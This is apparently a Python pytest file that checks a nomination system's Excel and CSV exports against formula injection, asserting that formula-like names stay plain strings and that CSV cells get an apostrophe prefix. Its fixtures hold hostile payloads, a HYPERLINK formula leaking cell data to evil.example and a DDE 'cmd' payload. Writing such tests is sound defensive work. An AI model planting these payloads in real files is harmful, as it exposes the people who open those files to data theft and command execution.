"""Formula injection (issue 16 #11): the .xlsx and .csv files we write never hold a formula.

Text that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, CR) comes back from the
what-if workbook and the nominations export as the same text in a string cell, and with a
leading apostrophe in the CSV export; real numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from thidua.adapters.tabular import export_rows
from thidua.adapters.tabular.registrations import write_registrations_xlsx
from thidua.adapters.tabular.whatif_xlsx import write_xlsx
from thidua.app.evaluation_views import TitleCounts, WhatIfReport, WhatIfRow, WhatIfTimings
from thidua.app.ports.nominations import NominationView

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1", "-1+2", "@SUM(A1:A9)")
AT = datetime(2024, 12, 1, 8, 0, tzinfo=UTC)


def view(name: str, unit: str) -> NominationView:
    return NominationView(
        id="NTM-2024_2024_NV018",
        workflow_id="nomination-NTM-2024_2024_NV018",
        movement="NTM-2024",
        year=2024,
        unit=unit,
        kind="individual",
        nominee_code="NV018",
        nominee_name=name,
        stage="unit_review",
        stage_label="",
        deadline=None,
        status=None,
        titles=[],
        proposals=[],
        ruleset=None,
        submitted_by="canbo.ldvl",
        created_at=AT,
        updated_at=AT,
    )


def whatif_report(texts: tuple[str, ...]) -> WhatIfReport:
    rows = [
        WhatIfRow(
            nomination=f"N{i}",
            unit="LDVL",
            kind="individual",
            nominee_code=f"NV{i}",
            nominee_name=text,
            title="LDTT",
            title_vi="Lao động tiên tiến",
            change="lose",
            rule="r1",
            rule_title_vi="",
            reason_vi=text,
            conditions=[],
            old_status="eligible",
            new_status="not_eligible",
            evaluation_id=7,
            old_ruleset="ntm-2024@1",
        )
        for i, text in enumerate(texts)
    ]
    return WhatIfReport(
        draft={"id": "ntm-2024", "version": "2", "source": "=cmd|' /C calc'!A0"},
        movement="NTM-2024",
        year=2024,
        snapshots=len(rows),
        changed_nominations=len(rows),
        gains=0,
        losses=len(rows),
        status_changes=0,
        by_title={"LDTT": TitleCounts(name_vi="-Lao động", lose=len(rows))},
        rows=rows,
        timings=WhatIfTimings(load_s=0, evaluate_s=0, explain_s=0, total_s=0, snapshots_per_s=0),
    )


class TestXlsxNeverWritesFormulas:
    def test_whatif_workbook_keeps_hostile_text_as_strings_and_numbers_as_numbers(
        self, tmp_path: Path
    ) -> None:
        """Names and reasons starting like formulas read back unchanged as string cells."""
        out = tmp_path / "whatif.xlsx"
        write_xlsx(whatif_report(HOSTILE), out)
        wb = load_workbook(out)
        changes = wb["Thay đổi"]
        for n, text in enumerate(HOSTILE, start=2):
            for col in ("C", "G"):  # nominee name, reason
                cell = changes[f"{col}{n}"]
                assert (cell.data_type, cell.value) == ("s", text)
            evaluation = changes[f"J{n}"]
            assert (evaluation.data_type, evaluation.value) == ("n", 7)
        summary = wb["Tổng hợp"]
        source = summary["C1"]
        assert (source.data_type, source.value) == ("s", "=cmd|' /C calc'!A0")
        name, lose = summary["B8"], summary["C8"]
        assert (name.data_type, name.value) == ("s", "-Lao động")
        assert (lose.data_type, lose.value) == ("n", len(HOSTILE))

    def test_nominations_export_xlsx_keeps_hostile_text_as_strings(self, tmp_path: Path) -> None:
        """The bulk export writes a nominee name like ``=HYPERLINK(...)`` as a string cell."""
        views = [view(text, "LDVL") for text in HOSTILE]
        out = export_rows(views, "xlsx", tmp_path / "export.xlsx")
        ws = load_workbook(out).active
        assert ws is not None
        for n, text in enumerate(HOSTILE, start=2):
            cell = ws[f"C{n}"]
            assert cell.data_type == "s"
            assert cell.value == f"{text} (NV018)"
            assert ws[f"A{n}"].data_type == "s"

    @pytest.mark.parametrize("text", ["\tx", "\rx", "=1+1"])
    def test_registrations_template_writes_text(self, text: str) -> None:
        """The registrations sheet (templates) writes tab/CR/``=`` texts as strings too."""
        import io

        data = write_registrations_xlsx([{"movement": "NTM-2024", "code": text}])
        ws = load_workbook(io.BytesIO(data))["registrations"]
        assert (ws["C2"].data_type, ws["C2"].value) == ("s", text)


class TestCsvExportGuardsFormulas:
    def test_formula_like_text_gets_a_leading_apostrophe(self, tmp_path: Path) -> None:
        """OWASP: a CSV cell starting like a formula is prefixed with ``'``; others unchanged."""
        views = [
            view(text, unit) for text, unit in zip(HOSTILE, ("=1", "+2", "-3", "@4"), strict=True)
        ]
        views.append(view("Nguyễn Văn A", "LDVL"))
        out = export_rows(views, "csv", tmp_path / "export.csv")
        with out.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        for row, text, unit in zip(rows[1:], HOSTILE, ("=1", "+2", "-3", "@4"), strict=False):
            assert row[1] == "'" + unit
            assert row[2] == f"'{text} (NV018)"
        assert rows[-1][1:3] == ["LDVL", "Nguyễn Văn A (NV018)"]
